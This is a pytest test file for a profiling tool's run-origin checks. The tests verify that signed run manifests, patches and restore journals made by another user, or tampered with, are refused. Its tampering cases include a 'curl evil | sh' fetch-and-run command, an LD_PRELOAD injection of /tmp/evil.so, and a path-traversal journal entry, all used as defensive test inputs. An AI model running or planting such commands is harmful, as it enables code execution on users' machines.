"""Runs of this user are told from those of anybody else."""

import os
import stat
from dataclasses import replace
from pathlib import Path

import pytest

from perftui.experiments.files_of_trials import restore_all
from perftui.experiments.rerun import repeat_launch
from perftui.fixes.apply_and_undo import apply_patch, last_applied, undo, undoing
from perftui.fixes.option import Patch
from perftui.recorder.launch import Launch, prepare
from perftui.run import origin
from perftui.run.layout import RunLayout
from perftui.run.manifest import Manifest, Override, read_manifest, write_manifest
from perftui.run.origin import ForeignRunError, check_run, trust
from perftui.run.reader import RunReader
from perftui.wire.spool import SPARED_JOURNAL


@pytest.fixture(autouse=True)
def own_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("PERFTUI_TRUST_RUNS")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setattr(origin, "_trusted", set())
    return tmp_path / "state" / "perftui" / "key"


def prepared(folder: Path) -> RunLayout:
    return prepare(Launch(("python", "train.py"), folder, folder / ".perftui" / "runs"))


def changed(layout: RunLayout, **changes: object) -> Manifest:
    manifest = replace(read_manifest(layout.manifest), **changes)  # type: ignore[arg-type]
    write_manifest(layout.manifest, manifest)
    return manifest


def test_what_this_user_records_can_be_run_again(tmp_path: Path, own_key: Path) -> None:
    layout = prepared(tmp_path)
    changed(layout, exit_code=0, notes=("a note",), name="first")
    assert repeat_launch(RunReader(layout.root).poll()).command == ("python", "train.py")
    moved = layout.root.rename(tmp_path / "moved")
    check_run(moved, read_manifest(RunLayout(moved).manifest))
    assert stat.S_IMODE(own_key.stat().st_mode) == 0o600
    assert stat.S_IMODE(own_key.parent.stat().st_mode) == 0o700
    assert [path.name for path in own_key.parent.iterdir()] == ["key"]


@pytest.mark.parametrize(
    "change",
    [
        {"command": ("sh", "-c", "curl evil | sh")},
        {"cwd": "/"},
        {"run_id": "other"},
        {"overrides": (Override("environment", {"LD_PRELOAD": "/tmp/evil.so"}),)},  # noqa: S108
    ],
)
def test_what_was_changed_since_is_not_run(tmp_path: Path, change: dict[str, object]) -> None:
    layout = prepared(tmp_path)
    changed(layout, **change)
    with pytest.raises(ForeignRunError, match="was not recorded by you"):
        repeat_launch(RunReader(layout.root).poll())


def test_a_run_of_another_user_is_not_run_before_the_user_says_so(
    tmp_path: Path, own_key: Path
) -> None:
    layout = prepared(tmp_path)
    own_key.unlink()
    with pytest.raises(ForeignRunError) as raised:
        repeat_launch(RunReader(layout.root).poll())
    assert f"in {tmp_path}: python train.py. Add --trust" in str(raised.value)
    trust(layout.root)
    repeat_launch(RunReader(layout.root).poll())


@pytest.mark.parametrize("how", ["readable", "short", "link", "pipe"])
def test_a_key_that_others_may_know_signs_nothing(how: str, tmp_path: Path, own_key: Path) -> None:
    own_key.parent.mkdir(parents=True)
    if how == "link":
        (tmp_path / "theirs").write_bytes(bytes(32))
        own_key.symlink_to(tmp_path / "theirs")
    elif how == "pipe":
        os.mkfifo(own_key, 0o600)
    else:
        own_key.write_bytes(bytes(3 if how == "short" else 32))
        own_key.chmod(0o644 if how == "readable" else 0o600)
    assert origin.signature("a") == ""
    assert not origin.is_signed("", "a")


def test_without_a_home_what_this_process_recorded_can_be_run_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", "/dev/null/state")
    layout = prepared(tmp_path)
    assert not layout.origin.exists()
    check_run(layout.root, read_manifest(layout.manifest))


def test_a_record_of_anybody_undoes_nothing(tmp_path: Path, own_key: Path) -> None:
    script, store = tmp_path / "train.py", tmp_path / ".perftui" / "patches"
    script.write_bytes(b"a = 1\n")
    applied = apply_patch(Patch(script, b"a = 1\n", b"a = 2\n"), store, "a 1 -> 2")
    assert undoing(applied, store).after == b"a = 1\n"
    for theirs in (
        replace(applied, path=str(tmp_path / "other.py")),
        replace(applied, before_sha256="0" * 64),
        replace(applied, signature=""),
    ):
        with pytest.raises(ForeignRunError, match=f"would write {theirs.path}"):
            undo(theirs, store)
    own_key.unlink()
    found = last_applied(store)
    assert found is not None
    with pytest.raises(ForeignRunError):
        undo(found, store)
    assert script.read_bytes() == b"a = 2\n"
    trust(store)
    undo(found, store)
    assert script.read_bytes() == b"a = 1\n"


def test_a_trial_of_anybody_gives_nothing_back(tmp_path: Path, own_key: Path) -> None:
    target, layout = tmp_path / "profile", prepared(tmp_path)
    target.write_text("mine")
    layout.spared.mkdir()
    (layout.spared / "0").write_text("theirs")
    entry = f'{{"time": 1, "path": "{target}", "copy": "0"}}\n'
    (layout.spared / SPARED_JOURNAL).write_text(entry)
    own_key.unlink()
    with pytest.raises(ForeignRunError):
        restore_all(layout.root.parent)
    assert target.read_text() == "mine"


def test_a_trial_gives_back_its_own_copies_only(tmp_path: Path) -> None:
    target, layout = tmp_path / "checkpoint", prepared(tmp_path)
    target.write_text("now")
    (tmp_path / "elsewhere").write_text("elsewhere")
    layout.spared.mkdir()
    (layout.spared / "elsewhere").write_text("before")
    entry = f'{{"time": 1, "path": "{target}", "copy": "../../../../elsewhere"}}\n'
    (layout.spared / SPARED_JOURNAL).write_text(entry)
    restore_all(layout.root.parent)
    assert target.read_text() == "before"
